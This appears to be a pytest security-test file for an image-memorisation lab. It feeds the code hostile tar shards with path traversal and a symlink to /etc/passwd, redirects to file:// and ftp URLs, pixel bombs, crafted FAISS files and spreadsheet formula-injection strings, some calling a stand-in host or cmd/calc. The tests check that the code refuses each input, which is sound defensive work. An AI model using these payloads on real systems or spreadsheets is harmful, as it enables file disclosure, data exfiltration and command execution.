"""Hostile input (issue 28), tried as an attacker would: shards and listings that name paths outside their
folder, links, damaged tars, fetches that redirect or drip, world and index folders with wrong types or
paths, uploads past the caps. After each: nothing written or read outside the work folders, the good
samples indexed, each bad one reported by its reason, whole-input problems one ``error:`` line with exit 2,
the app still serving."""
import http.server
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import threading
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from PIL import Image

from tests.helpers import ROOT, run_in_process, synthetic_images

ENV = {**os.environ, "MEMLAB_OFFLINE": "1", "HF_HUB_OFFLINE": "1"}


def png(i: int, size: int = 32) -> bytes:
    buf = io.BytesIO()
    synthetic_images(i + 1, size=size, seed=i)[i].save(buf, "PNG")
    return buf.getvalue()


def add(tar: tarfile.TarFile, name: str, data: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


def tree(folder: Path) -> set:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


# ------------------------------------------------------------------------------------------------ shards
def hostile_shard(path: Path) -> None:
    """Good samples, one in a subfolder and one with a 300-character name, beside members that climb out
    (``../``), an absolute member, a symlink and a hard link, a duplicate key and a sample without image."""
    with tarfile.open(path, "w") as tar:
        for k, i in (("good0", 0), ("imgs/good1", 1), ("x" * 300, 2)):
            add(tar, f"{k}.png", png(i))
            add(tar, f"{k}.txt", f"caption {i}".encode())
        add(tar, "../escaped.png", png(3))
        add(tar, "/tmp/absolute-memlab-test.png", png(4))
        link = tarfile.TarInfo("linked.png")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        tar.addfile(link)
        hard = tarfile.TarInfo("hard.png")
        hard.type, hard.linkname = tarfile.LNKTYPE, "good0.png"
        tar.addfile(hard)
        add(tar, "good0.png", png(5))  # the same key again, later in the tar: a second sample "good0"
        add(tar, "notes.txt", b"no image here")


def test_shard_members_never_leave_the_staging_folder_and_each_bad_one_is_reported(tmp_path):
    from index_builder.build import main
    from memlab.index import TrainingIndex

    work = tmp_path / "work"
    (work / "shards").mkdir(parents=True)
    hostile_shard(work / "shards" / "00000.tar")
    before = tree(tmp_path)
    abs_target = Path("/tmp/absolute-memlab-test.png")
    abs_target.unlink(missing_ok=True)
    assert main(["--shards", str(work / "shards"), "--descriptor", "pixel", "--calib-n", "2",
                 "--out", str(work / "idx")]) == 0
    assert not abs_target.exists() and not (work / "escaped.png").exists() and not (tmp_path / "escaped.png").exists()
    new = {p for p in tree(tmp_path) - before if not p.startswith("work/idx")}
    assert new == set(), new  # nothing beside the index (the staging folder is gone too)
    idx = TrainingIndex.load(work / "idx")
    files = set(idx.items["file"])
    assert len(files) == 3 and any("imgs__good1" in f for f in files)  # the subfolder kept in the name
    assert all(len(Path(f).name) <= 124 for f in files)  # the long name cut, with a hash of the whole
    rep = idx.manifest["source"]["skipped_samples"]["by_reason"]
    assert rep == {"unsafe member name (absolute or ..)": 2, "link or special member": 2, "duplicate key": 1,
                   "no image in the sample": 1}, rep
    assert all(p.resolve().is_relative_to((work / "idx").resolve()) for p in (work / "idx").rglob("*"))


def test_a_truncated_shard_keeps_what_it_could_read_among_good_ones(tmp_path):
    from index_builder.build import main
    from memlab.index import TrainingIndex

    shards = tmp_path / "shards"
    shards.mkdir()
    with tarfile.open(shards / "00000.tar", "w") as tar:
        for i in range(4):
            add(tar, f"a{i}.png", png(i))
    with tarfile.open(tmp_path / "whole.tar", "w") as tar:
        for i in range(4):
            add(tar, f"b{i}.png", png(i + 4, size=64))
    data = (tmp_path / "whole.tar").read_bytes()
    cut = 512 + len(png(4, 64)) + 512 + 512 + 100  # two members whole (header + padded data), the third cut
    (shards / "00001.tar").write_bytes(data[:cut])
    assert main(["--shards", str(shards), "--descriptor", "pixel", "--calib-n", "2", "--out", str(tmp_path / "idx")]) == 0
    idx = TrainingIndex.load(tmp_path / "idx")
    ids = sorted(idx.items["id"])
    assert ids[:4] == ["a0", "a1", "a2", "a3"] and "b0" in ids and "b3" not in ids
    by = idx.manifest["source"]["skipped_samples"]["by_reason"]
    assert by.get("truncated tar (the sample it cut, lost)") == 1, by


@pytest.mark.parametrize("workers", [1, 3])
def test_embedding_a_shard_skips_bad_samples_and_counts_them(tmp_path, monkeypatch, workers):
    """One thread (a CPU's) or a pool decoding ahead (a GPU machine's): the same rows in the shard's order, the
    same vectors and the same skips."""
    import pandas as pd

    import memlab.preprocess as pre
    from index_builder.embed import embed_shard
    from tests.test_untrusted import png_bomb

    monkeypatch.setattr(pre, "PREPARE_WORKERS", workers)
    with tarfile.open(tmp_path / "s.tar", "w") as tar:
        for i in range(3):
            add(tar, f"k{i}.png", png(i))
        add(tar, "broken.png", b"\x89PNG not really")
        add(tar, "bomb.png", png_bomb(tmp_path / "bomb.png", 20_000, 20_000).read_bytes())
        for i in range(3, 30):
            add(tar, f"k{i}.png", png(i))
        add(tar, "broken2.png", b"\x89PNG not really either")
    res = embed_shard(str(tmp_path / "s.tar"), 0, str(tmp_path / "emb"), "pixel", {}, batch_size=8)
    assert res["rows"] == 30 and res["samples_skipped"] == 3
    rep = json.loads((tmp_path / "emb" / "skipped" / "skipped_0.json").read_text())
    assert rep["by_reason"] == {"unreadable image": 2, "image over 40 MP": 1}
    assert rep["examples"] == {"unreadable image": ["s.tar:broken", "s.tar:broken2"], "image over 40 MP": ["s.tar:bomb"]}
    ids = pd.read_parquet(tmp_path / "emb" / "metadata" / "metadata_0.parquet")["id"].tolist()
    assert ids == [f"k{i}" for i in range(30)]
    v = np.load(tmp_path / "emb" / "img_emb" / "img_emb_0.npy")
    one = embed_shard(str(tmp_path / "s.tar"), 1, str(tmp_path / "one"), "pixel", {}, batch_size=30)
    assert one["rows"] == 30 and np.array_equal(v, np.load(tmp_path / "one" / "img_emb" / "img_emb_1.npy"))


# ---------------------------------------------------------------------------------------------- listings
def test_a_listing_never_reads_a_file_outside_its_folder(tmp_path):
    from index_builder.build import main
    from memlab.index import TrainingIndex

    secret = tmp_path / "secret.png"
    secret.write_bytes(png(7))
    folder = tmp_path / "listing"
    folder.mkdir()
    for i in range(3):
        (folder / f"ok{i}.png").write_bytes(png(i))
    (folder / "link.png").symlink_to(secret)
    rows = [(0, "ok0.png"), (1, "ok1.png"), (2, "ok2.png"), (3, "../secret.png"), (4, str(secret)), (5, "link.png")]
    pd.DataFrame({"id": [r[0] for r in rows], "file": [r[1] for r in rows],
                  "caption": [f"c{r[0]}" for r in rows]}).to_csv(folder / "items.csv", index=False)
    for argv in (["--images", str(folder), "--captions", str(folder / "items.csv")],
                 ["--shards", str(folder / "items.csv")]):  # (a listing as a world's training source)
        out = tmp_path / f"idx{len(argv)}"
        assert main(argv + ["--descriptor", "pixel", "--calib-n", "2", "--copy-images", "--out", str(out)]) == 0
        idx = TrainingIndex.load(out)
        assert sorted(idx.items["id"].astype(str)) == ["0", "1", "2"]
        assert idx.manifest["source"]["skipped_samples"]["by_reason"] == {
            "path outside its folder (absolute, .. or a link out)": 3}
        copied = [p.read_bytes() for p in out.rglob("*.png")]
        assert png(7) not in copied


# ------------------------------------------------------------------------------------------------- fetch
class Hostile(http.server.BaseHTTPRequestHandler):
    """A server that redirects to other schemes and addresses, sends too much, drips, or serves images."""

    def log_message(self, *a):
        pass

    def handle(self):
        try:
            super().handle()
        except (ConnectionError, BrokenPipeError):
            pass  # the client hung up on a refused body

    def do_GET(self):
        port = self.server.server_port
        routes = {"/to-ftp": "ftp://127.0.0.1/a.png", "/to-loopback2": f"http://127.0.0.2:{port}/ok.png",
                  "/to-file": "file:///etc/passwd"}
        if self.path in routes:
            self.send_response(302)
            self.send_header("Location", routes[self.path])
            self.end_headers()
        elif self.path in ("/ok.png", "/photo.jpg"):
            body = self.server.files[self.path]
            self.send_response(200)
            self.send_header("Content-Type", "image/png" if self.path.endswith("png") else "image/jpeg")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        elif self.path == "/huge":
            self.send_response(200)
            self.end_headers()
            for _ in range(8):
                self.wfile.write(b"\0" * 2**20)
        elif self.path == "/drip":
            self.send_response(200)
            self.end_headers()
            for _ in range(30):
                self.wfile.write(b"\xff")
                self.wfile.flush()
                time.sleep(0.5)
        else:
            self.send_response(404)
            self.end_headers()


@pytest.fixture(scope="module")
def hostile_server():
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    srv.daemon_threads = True
    buf = io.BytesIO()
    Image.fromarray(np.random.default_rng(0).integers(0, 255, (40, 40, 3), np.uint8)).save(buf, "JPEG", quality=90)
    srv.files = {"/ok.png": png(1, 48), "/photo.jpg": buf.getvalue()}
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield srv
    srv.shutdown()


def test_a_fetch_reaches_only_public_http_and_stops_at_its_deadline_and_size(hostile_server, tmp_path):
    from memlab.fetch import fetch

    base = f"http://127.0.0.1:{hostile_server.server_port}"
    names = ["ok.png", "photo.jpg", "to-ftp", "to-file", "to-loopback2", "huge", "drip"]
    urls = pd.DataFrame({"url": [f"{base}/{n}" for n in names], "caption": names})
    t0 = time.perf_counter()
    rep = fetch(urls, tmp_path / "shards", processes=1, threads=8, timeout=3, retries=0,
                allow_private_addresses=("127.0.0.1",), deadline=3, max_bytes=2**20)
    took = time.perf_counter() - t0
    reasons = dict(pd.read_csv(tmp_path / "shards" / "_fetch" / "failures.csv")[["url", "reason"]].values)
    assert {u.rsplit("/", 1)[1]: r for u, r in reasons.items()} == {
        "to-ftp": "refused: redirect to another scheme", "to-file": "refused: redirect to another scheme",
        "to-loopback2": "refused: private address", "huge": "body too large", "drip": "deadline passed"}
    assert rep["fetched"] == 2 and took < 60  # the 15 s drip was cut at 3 s
    with tarfile.open(tmp_path / "shards" / "00000.tar") as tar:
        kept = {json.loads(tar.extractfile(m.name[:-4] + ".json").read())["url"].rsplit("/", 1)[1]:
                tar.extractfile(m).read() for m in tar if m.name.endswith(".jpg")}
    assert kept["photo.jpg"] == hostile_server.files["/photo.jpg"]  # a small JPEG keeps its bytes
    assert kept["ok.png"][:2] == b"\xff\xd8"  # a PNG is re-encoded as JPEG by img2dataset (as docs say)
    # by default loopback is refused: nothing is fetched from this machine
    rep = fetch(urls[:2], tmp_path / "default", processes=1, threads=4, timeout=3, retries=0)
    assert rep["fetched"] == 0 and rep["by_reason"] == {"refused: private address": 2}


# ------------------------------------------------------------------------------------------------ readers
def test_readers_say_what_is_wrong_and_lose_nothing(tmp_path):
    from memlab.cli.run import read_prompts
    from memlab.errors import MemlabError
    from memlab.prompts import read_prompt_list

    bom = tmp_path / "bom.csv"
    bom.write_bytes("\ufeffcaption,url\na red ball,http://x/1.png\na blue cube,http://x/2.png\n".encode())
    assert list(read_prompt_list(bom)["prompt"]) == ["a red ball", "a blue cube"]
    extra = tmp_path / "extra.csv"
    extra.write_text("caption,url\na red ball,http://x/1.png\na blue, cube,http://x/2.png\nthird,http://x/3.png\n")
    with pytest.raises(MemlabError, match="line 3: 3 fields where the header has 2"):
        read_prompt_list(extra)
    urls = tmp_path / "urls.txt"
    urls.write_text("http://x/1.png\nhttp://x/2.png\nnot a url\nhttp://x/3.png\n")
    with pytest.raises(MemlabError, match="line 3 is not"):
        read_prompt_list(urls)
    wen = tmp_path / "sdv1_500_memorized.jsonl"
    wen.write_text('{"caption": "a red ball", "url": "http://x/1.png", "index": 3}\n'
                   '{"caption": "a blue cube", "url": "http://x/2.png", "index": 4}\n')
    assert read_prompts(str(wen), None) == ["a red ball", "a blue cube"]  # not the JSON lines themselves


def test_exif_orientation_is_applied(tmp_path):
    from memlab.match import load_image

    im = Image.new("RGB", (40, 20), (255, 0, 0))
    exif = im.getexif()
    exif[274] = 6  # rotated 90 degrees: shown 20 x 40
    im.save(tmp_path / "r.jpg", exif=exif.tobytes())
    assert load_image(tmp_path / "r.jpg").size == (20, 40)


def test_an_image_is_read_as_a_viewer_shows_it_whatever_its_mode(tmp_path):
    """A 16-bit grey PNG, a float TIFF and a transparent PNG read as the 8-bit picture they show (Pillow's own
    ``convert("RGB")`` clips 16-bit greys to near white and keeps whatever colour sits under transparency): the
    same pixels as an upload, as a shard member and as an indexed training image, so a copy saved at another
    depth or with an alpha channel matches its original."""
    from index_builder.embed import embed_shard
    from memlab.match import load_image
    from memlab.preprocess import open_rgb

    ramp = np.tile(np.arange(256, dtype=np.uint16)[None, :], (16, 1))  # 8-bit greys 0..255
    Image.fromarray(ramp.astype(np.uint8), "L").save(tmp_path / "g8.png")
    Image.fromarray((ramp * 257).astype(np.uint16)).save(tmp_path / "g16.png")  # the same greys at 16 bits
    Image.fromarray(ramp.astype(np.float32) / 255).save(tmp_path / "gf.tiff")
    rgba = np.zeros((16, 256, 4), np.uint8)  # black under full transparency, a red band shown in the middle
    rgba[4:12, :, 0], rgba[4:12, :, 3] = 255, 255
    Image.fromarray(rgba, "RGBA").save(tmp_path / "t.png")
    assert Image.open(tmp_path / "g16.png").mode.startswith("I")
    want = np.asarray(load_image(tmp_path / "g8.png"))
    assert want[0, :, 0].tolist() == list(range(256))
    for f in ("g16.png", "gf.tiff"):
        assert np.abs(np.asarray(load_image(tmp_path / f)).astype(int) - want).max() <= 1, f
        assert np.array_equal(np.asarray(open_rgb(tmp_path / f)), np.asarray(load_image(tmp_path / f))), f
    t = np.asarray(load_image(tmp_path / "t.png"))
    assert (t[:4] == 255).all() and (t[12:] == 255).all() and t[4:12].reshape(-1, 3).tolist().count([255, 0, 0]) == 8 * 256
    with tarfile.open(tmp_path / "s.tar", "w") as tar:
        for name in ("g8.png", "g16.png", "t.png"):
            add(tar, name.replace(".", "_") + ".png", (tmp_path / name).read_bytes())
    assert embed_shard(str(tmp_path / "s.tar"), 0, str(tmp_path / "emb"), "pixel", {}, batch_size=8)["rows"] == 3
    v = np.load(tmp_path / "emb" / "img_emb" / "img_emb_0.npy")
    assert float(v[0] @ v[1]) > 0.999  # the 16-bit member embeds as the 8-bit one
    from memlab.descriptors import create_descriptor

    assert np.allclose(v[2], create_descriptor("pixel").embed([load_image(tmp_path / "t.png")])[0], atol=1e-3)


# -------------------------------------------------------------------------------------- index and world
def run_cli(*argv) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", *argv], cwd=ROOT, env=ENV, capture_output=True, text=True,
                          timeout=300)


def one_error(r: subprocess.CompletedProcess, *words) -> None:
    lines = [ln for ln in r.stderr.strip().splitlines() if ln.strip()]
    assert r.returncode == 2 and len(lines) == 1 and lines[0].startswith("error:"), r.stderr[-1500:]
    assert all(w in lines[0] for w in words), lines[0]


def _reseal(index: Path, manifest: dict) -> None:
    """Write a manifest whose checksums match its (altered) files: the damage a checksum cannot see."""
    from memlab.indexfiles import sha256

    manifest["files"] = {f: sha256(index / f) for f in manifest["files"]}
    (index / "manifest.json").write_text(json.dumps(manifest))


@pytest.mark.slow
def test_malformed_index_and_world_files_are_one_error_line(tiny_world, tmp_path, capfd):
    q = tmp_path / "q.png"
    synthetic_images(1)[0].save(q)
    cases = []

    def damaged(name, edit):
        w = tmp_path / name
        shutil.copytree(tiny_world, w)
        edit(w)
        cases.append((name, w))

    def as_list(w):
        (w / "index" / "manifest.json").write_text("[1, 2, 3]")

    def threshold_text(w):
        m = json.loads((w / "index" / "manifest.json").read_text())
        m["descriptors"]["pixel"]["threshold"]["value"] = "0.9"
        _reseal(w / "index", m)

    def indexed_not_text(w):  # the words of what the vectors were computed from, shown beside every score
        m = json.loads((w / "index" / "manifest.json").read_text())
        m["descriptors"]["pixel"]["indexed"] = {"html": "<img>"}
        _reseal(w / "index", m)

    def truth_text(w):  # recall on held-out copies, drawn by About this world
        m = json.loads((w / "index" / "manifest.json").read_text())
        m["descriptors"]["pixel"]["threshold"]["ground_truth"] = {"model:vae": {"n": "96", "recall": 0.9}}
        _reseal(w / "index", m)

    def wrong_width(w):
        m = json.loads((w / "index" / "manifest.json").read_text())
        np.save(w / "index" / "pixel.npy", np.ones((m["item_count"], 7), np.float32))
        _reseal(w / "index", m)

    def wrong_types(w):
        items = pd.read_parquet(w / "index" / "items.parquet")
        items["group"] = items["group"].astype(str)
        items.to_parquet(w / "index" / "items.parquet", index=False)
        _reseal(w / "index", json.loads((w / "index" / "manifest.json").read_text()))

    def outside(w):
        m = json.loads((w / "world.json").read_text())
        m["index"] = "../../etc"
        (w / "world.json").write_text(json.dumps(m))

    def steps(w):
        m = json.loads((w / "world.json").read_text())
        m["defaults"]["steps"] = "abc"
        (w / "world.json").write_text(json.dumps(m))

    expect = {"as_list": ("manifest.json", "format"), "threshold_text": ("threshold.value", "finite number"),
              "indexed_not_text": ("pixel.indexed",), "truth_text": ("ground_truth['model:vae'].n", "whole number"),
              "wrong_width": ("pixel.npy", "7-d"), "wrong_types": ("group",),
              "outside": ("world.json", "index", "points outside"), "steps": ("defaults.steps", "whole number")}
    for name, fn in (("as_list", as_list), ("threshold_text", threshold_text), ("indexed_not_text", indexed_not_text),
                     ("truth_text", truth_text), ("wrong_width", wrong_width),
                     ("wrong_types", wrong_types), ("outside", outside), ("steps", steps)):
        damaged(name, fn)
    for i, (name, w) in enumerate(cases):
        argv = ["match", "--index", str(w / "index"), "--images", str(q)] if name in (
            "as_list", "threshold_text", "indexed_not_text", "truth_text", "wrong_width", "wrong_types") else \
            ["run", "--world", str(w), "--prompt", "a colour field", "--seeds", "0", "--steps", "1",
             "--out", str(tmp_path / f"{name}.jsonl")]
        # the first of each verb in a process of its own (nothing else reaches stderr), the rest in this one
        one_error(run_cli("memlab", *argv) if name in ("as_list", "outside") else run_in_process(capfd, argv),
                  *expect[name])
    # the app refuses to start on a keyword view of the wrong shape, naming the file and field
    w = tmp_path / "badview"
    shutil.copytree(tiny_world, w)
    (w / "keywords").mkdir(exist_ok=True)
    (w / "keywords" / "field.json").write_text(json.dumps({"keyword": "field", "clusters": "many"}))
    from memlab.world import seal_world

    seal_world(w)
    r = subprocess.run([sys.executable, str(ROOT / "app.py"), "--world", str(w), "--port", "1"], cwd=ROOT, env=ENV,
                       capture_output=True, text=True, timeout=300)
    assert r.returncode != 0 and "field.json" in r.stderr and "n_before" in r.stderr and "Traceback" not in r.stderr
    # a view dropped in without the world's checksum is refused too
    (w / "keywords" / "field.json").unlink()
    seal_world(w)
    (w / "keywords" / "dropped.json").write_text("{}")
    r = run_in_process(capfd, ["run", "--world", str(w), "--prompt", "a colour field", "--seeds", "0", "--steps", "1",
                           "--out", str(tmp_path / "v.jsonl")])
    assert r.returncode == 0, r.stderr[-2000:]  # (runs load no views)
    from memlab.errors import MemlabError
    from memlab.service import Lab
    from memlab.world import World

    with pytest.raises(MemlabError, match="dropped.json is not among the checksummed files"):
        Lab(World.load(w), device="cpu")


def test_embeddings_with_nan_zero_or_foreign_rows_are_refused_naming_the_row(tmp_path):
    from memlab.embeddings import write_embeddings

    x = np.random.default_rng(0).standard_normal((300, 768)).astype(np.float32)
    for name, edit, words in (("nan", lambda v: v.__setitem__((123, 5), np.nan), ("row 123", "finite")),
                              ("zero", lambda v: v.__setitem__(77, 0), ("row 77", "all-zero")),
                              ("width", None, ("64-d", "768-d", "clip"))):
        v = x.copy() if edit else x[:, :64].copy()
        if edit:
            edit(v)
        src = write_embeddings(tmp_path / name, v, pd.DataFrame({"id": np.arange(300)}), dtype=np.float32)
        r = run_cli("index_builder", "--embeddings", str(src), "--descriptor", "clip", "--out", str(tmp_path / f"i{name}"))
        one_error(r, *words)
        if name != "width":
            assert "img_emb_0.npy" in r.stderr


def test_faiss_no_result_is_never_a_match(tmp_path):
    """An IVF index whose probed lists hold fewer items than k: the missing places are not matches (FAISS's
    -1 once read as the last item, at score -3.4e38)."""
    from memlab.descriptors import create_descriptor
    from memlab.index import TrainingIndex, build_index
    from memlab.match import match_vectors

    ims = synthetic_images(6)
    items = pd.DataFrame({"id": range(6), "caption": [f"c{i}" for i in range(6)], "file": [f"{i}.png" for i in range(6)]})
    d = create_descriptor("pixel")
    build_index(tmp_path / "idx", items, lambda i: ims[i], [d], factory="IVF2,Flat", calib_n=2)
    idx = TrainingIndex.load(tmp_path / "idx")
    idx.nprobe = 1
    v = d.embed(ims)
    scores, rows = idx.search(v, k=6)
    got = match_vectors(idx, d, v, k=6)
    for r, s, m in zip(rows, scores, got):
        found = r >= 0
        assert np.isfinite(s[found]).all() and np.isneginf(s[~found]).all()
        assert len(m["matches"]) == int(found.sum()) and all(np.isfinite(x["score"]) for x in m["matches"])
        assert len({x["row"] for x in m["matches"]}) == len(m["matches"])


# ----------------------------------------------------------------------------------------------------- app
def test_the_app_serves_images_alone_and_holds_every_upload_path_to_the_caps(server, client, tmp_path):
    import base64

    import httpx
    from gradio_client import handle_file

    base, lab = server
    index = lab.index.path
    image = next((index / "images").rglob("*.png"))
    assert httpx.get(f"{base}gradio_api/file={image}", timeout=10).status_code == 200
    for f in (lab.world.path / "model" / "model_index.json", index / "items.parquet", index / "manifest.json",
              index / "pixel.npy", lab.world.path / "world.json"):
        r = httpx.get(f"{base}gradio_api/file={f}", timeout=10)
        assert r.status_code in (403, 404) and r.content != f.read_bytes(), f
    # a file over the byte cap, as an upload and as a data: URL: refused by the cap's name, no server path
    big = tmp_path / "big.png"
    big.write_bytes(b"\x89PNG" + b"\0" * (21 * 2**20))
    r = httpx.post(f"{base}gradio_api/upload", files={"files": ("big.png", big.read_bytes(), "image/png")}, timeout=60)
    assert r.status_code == 413 and "20 MiB" in r.text and "/tmp" not in r.text
    data_url = "data:image/png;base64," + base64.b64encode(big.read_bytes()).decode()
    payload = {"data": [{"path": None, "url": data_url, "meta": {"_type": "gradio.FileData"}}, 3, None]}
    r = httpx.post(f"{base}gradio_api/call/match_image", json=payload, timeout=60)
    assert r.status_code == 413 and "20 MiB" in r.text
    # named by URL: not fetched by the app (a file the app serves itself is named by its own URL: fine)
    payload["data"][0] = {"path": "https://example.org/a.png", "url": "https://example.org/a.png",
                          "meta": {"_type": "gradio.FileData"}}
    r = httpx.post(f"{base}gradio_api/call/match_image", json=payload, timeout=60)
    assert r.status_code == 400 and "does not fetch" in r.text
    # a pixel bomb inlined as a data: URL (small in bytes) is refused at open, not decoded
    from tests.test_untrusted import png_bomb

    bomb = png_bomb(tmp_path / "bomb.png", 30_000, 30_000).read_bytes()
    payload["data"][0] = {"path": None, "url": "data:image/png;base64," + base64.b64encode(bomb).decode(),
                          "meta": {"_type": "gradio.FileData"}}
    with pytest.raises(Exception) as e:
        client.predict(*payload["data"], api_name="/match_image")
    assert "Traceback" not in str(e.value)
    ok = tmp_path / "q.png"
    synthetic_images(1, size=16)[0].save(ok)
    md, _, _ = client.predict(handle_file(str(ok)), 3, None, api_name="/match_image")  # still serving
    assert "Top-1 score" in md


def test_a_damaged_faiss_file_is_one_error_line_even_under_a_matching_checksum(tmp_path):
    import pandas as pd

    from memlab.descriptors import create_descriptor
    from memlab.index import build_index

    ims = synthetic_images(40, size=16)
    items = pd.DataFrame({"id": range(40), "caption": [f"c{i}" for i in range(40)], "file": [f"{i}.png" for i in range(40)]})
    build_index(tmp_path / "idx", items, lambda i: ims[i], [create_descriptor("pixel")], factory="IVF4,Flat", calib_n=4)
    f = tmp_path / "idx" / "pixel.faiss"
    f.write_bytes(f.read_bytes()[:64] + b"\x00" * 200)
    _reseal(tmp_path / "idx", json.loads((tmp_path / "idx" / "manifest.json").read_text()))
    ims[3].save(tmp_path / "q.png")
    one_error(run_cli("memlab", "match", "--index", str(tmp_path / "idx"), "--images", str(tmp_path / "q.png")),
              "pixel.faiss", "FAISS")


def _ivf_index(folder: Path, factory: str):
    """A 40-image pixel index whose FAISS file is ``factory`` (its manifest checksums match)."""
    from memlab.descriptors import create_descriptor
    from memlab.index import build_index

    ims = synthetic_images(40, size=16)
    items = pd.DataFrame({"id": range(40), "caption": [f"c{i}" for i in range(40)], "file": [f"{i}.png" for i in range(40)]})
    build_index(folder, items, lambda i: ims[i], [create_descriptor("pixel")], factory=factory, calib_n=4)
    ims[3].save(folder.parent / "q.png")
    return folder / "pixel.faiss", json.loads((folder / "manifest.json").read_text())


def test_a_crafted_faiss_file_neither_stops_the_process_nor_swamps_its_memory(tmp_path):
    """faiss's reader trusts the sizes a file declares (faiss#5400). A header naming another dimension is read,
    and the first search fails with an uncaught AssertionError (``bench_faiss_files``); a lists table declaring
    2^31 list sizes asks for 16 GiB before reading them. Both are one error line: the header is checked against
    the manifest before faiss reads the file, and the file is read first in a child process under a memory cap."""
    import struct

    f, manifest = _ivf_index(tmp_path / "idx", "IVF4,PQ4x4")
    good = f.read_bytes()
    d = struct.unpack("<i", good[4:8])[0]
    match = ("memlab", "match", "--index", str(tmp_path / "idx"), "--images", str(tmp_path / "q.png"))
    f.write_bytes(good[:4] + struct.pack("<i", 3) + good[8:])
    _reseal(tmp_path / "idx", manifest)
    one_error(run_cli(*match), "pixel.faiss", "3 dimensions", f"expected 40 of {d}")
    lists = good.find(b"ilar")  # faiss's ArrayInvertedLists: "ilar", nlist, code_size, "full", then the sizes
    assert good[lists + 20:lists + 24] == b"full"
    f.write_bytes(good[:lists + 24] + struct.pack("<q", 2**31) + good[lists + 32:])
    _reseal(tmp_path / "idx", manifest)
    one_error(run_cli(*match), "pixel.faiss", "needs more than")


def test_faiss_lists_that_name_a_row_twice_or_outside_the_index_are_refused(tmp_path):
    """A FAISS file's lists are rows of the index's table: a list naming a row past its end, or one row twice
    (and another never), would serve another image than the one it scored; a coarse quantizer ranking by L2
    (one byte of its header) picks the lists a query visits by another rule. Each file is refused at load."""
    import faiss

    from memlab.errors import IndexMismatchError
    from memlab.index import TrainingIndex

    f, manifest = _ivf_index(tmp_path / "idx", "IVF4,Flat")
    good = f.read_bytes()
    for make, words in ((lambda ids: 40, "names a row outside 0 to 39"),
                        (lambda ids: int(ids[1]), "name 1 rows never and 1 more than once")):
        idx = faiss.read_index(str(f))
        inv = faiss.extract_index_ivf(idx).invlists
        li = next(i for i in range(inv.nlist) if inv.list_size(i) > 1)
        ids = faiss.rev_swig_ptr(inv.get_ids(li), inv.list_size(li)).copy()
        code = faiss.rev_swig_ptr(inv.get_single_code(li, 0), inv.code_size).copy()
        inv.update_entry(li, 0, make(ids), faiss.swig_ptr(code))
        faiss.write_index(idx, str(f))
        _reseal(tmp_path / "idx", manifest)
        with pytest.raises(IndexMismatchError, match=words):
            TrainingIndex.load(tmp_path / "idx")
        f.write_bytes(good)
    idx = faiss.read_index(str(f))
    faiss.extract_index_ivf(idx).quantizer.metric_type = faiss.METRIC_L2
    faiss.write_index(idx, str(f))
    _reseal(tmp_path / "idx", manifest)
    with pytest.raises(IndexMismatchError, match="coarse quantizer ranks by L2"):
        TrainingIndex.load(tmp_path / "idx")
    f.write_bytes(good)
    _reseal(tmp_path / "idx", manifest)
    assert TrainingIndex.load(tmp_path / "idx").faiss_index("pixel").ntotal == 40


def test_lists_on_disk_changed_after_a_check_are_checked_again(tmp_path):
    """An index whose lists are on disk (``.ivfdata``, as memlab's large builds write them) is remembered as checked
    by both files: lists rewritten to the same size, naming one row twice, are refused on the next open."""
    import faiss
    from faiss.contrib.ondisk import merge_ondisk

    from memlab.errors import IndexMismatchError
    from memlab.faisscheck import open_faiss

    x = np.random.default_rng(0).standard_normal((400, 16)).astype(np.float32)
    x /= np.linalg.norm(x, axis=1, keepdims=True)
    trained = faiss.index_factory(16, "IVF4,Flat", faiss.METRIC_INNER_PRODUCT)
    trained.train(x)
    faiss.write_index(trained, str(tmp_path / "trained.faiss"))

    def lists(ids, name):
        part = faiss.read_index(str(tmp_path / "trained.faiss"))
        part.add_with_ids(x, ids)
        faiss.write_index(part, str(tmp_path / f"{name}.block"))
        merged = faiss.read_index(str(tmp_path / "trained.faiss"))
        merge_ondisk(merged, [str(tmp_path / f"{name}.block")], str(tmp_path / f"{name}.ivfdata"))
        faiss.write_index(merged, str(tmp_path / f"{name}.faiss"))

    lists(np.arange(400), "index")
    twice = np.arange(400)
    twice[1] = 0
    lists(twice, "other")
    assert (tmp_path / "index.faiss").read_bytes() == (tmp_path / "other.faiss").read_bytes().replace(b"other", b"index")
    assert open_faiss(tmp_path / "index.faiss", 16, 400).ntotal == 400
    shutil.copyfile(tmp_path / "other.ivfdata", tmp_path / "index.ivfdata")
    with pytest.raises(IndexMismatchError, match="more than once"):
        open_faiss(tmp_path / "index.faiss", 16, 400)


def test_every_faiss_file_memlab_did_not_just_write_is_read_through_faisscheck():
    """faiss's reader is called directly only on files a build writes and reads back itself (its work folder, its
    blocks); an index's served file, a caption index, a base added to and an adopted file go through
    ``faisscheck.open_faiss``."""
    import re

    own = ("work", "trained", "blocks", "final", "Path(index")  # a build's own files (blocks.py: its workers')
    for p in sorted((ROOT / "memlab").glob("*.py")):
        if p.name in ("faisscheck.py", "indexfiles.py"):
            continue
        for arg in re.findall(r"\b(?:read_index|read_faiss)\(([^)]*)", p.read_text()):
            assert any(w in arg for w in own), (p.name, arg)
    adopt = (ROOT / "memlab" / "adopt.py").read_text()
    assert "read_index(" not in adopt and adopt.count("open_faiss(") == 2


def test_an_exports_table_never_hands_a_spreadsheet_a_formula():
    """summary.csv's training id comes from the index's listing, which may come from elsewhere: a cell that a
    spreadsheet would run as a formula (= + - @, a tab or carriage return first) is written as text with a
    leading apostrophe; ordinary ids and numbers, negative scores included, are written as they are."""
    import csv
    import io

    from memlab.export import spreadsheet_text

    hostile = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1",
               "\r=1"]
    assert all(spreadsheet_text(v) == "'" + v for v in hostile)
    assert [spreadsheet_text(v) for v in ("img-7", "7", 7, -0.204, "a=b")] == ["img-7", "7", 7, -0.204, "a=b"]
    out = io.StringIO()
    csv.writer(out).writerow([spreadsheet_text(v) for v in hostile])
